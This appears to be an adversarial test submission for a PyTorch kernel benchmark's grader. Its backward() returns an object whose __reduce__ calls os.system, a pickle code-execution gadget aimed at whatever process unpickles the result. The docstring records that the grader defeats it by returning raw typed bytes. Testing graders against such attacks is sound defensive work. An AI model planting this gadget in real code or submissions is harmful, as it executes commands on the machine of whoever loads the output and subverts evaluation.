# problem: relu_squared
# language: pytorch
# must: invalid_output
"""Strategy: Return an object whose __reduce__ runs code in whoever unpickles it.
Surface: how results come back
Stopped by: nothing is unpickled: raw bytes of a known dtype and shape.
Listed as: A4 pickle RCE in parent
"""

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/unpickled",)


def backward(grad_output, x):
    return Bomb()
